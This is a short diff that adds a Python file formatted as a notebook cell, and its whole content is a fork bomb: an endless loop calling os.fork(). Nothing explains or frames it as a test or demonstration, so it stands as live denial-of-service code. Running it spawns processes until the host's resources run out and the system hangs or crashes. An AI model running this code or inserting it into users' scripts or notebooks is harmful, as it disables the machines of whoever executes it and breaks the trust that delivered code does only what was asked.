@@ -1,0 +1,5 @@
+# %%
+import os
+
+while True:
+    os.fork()
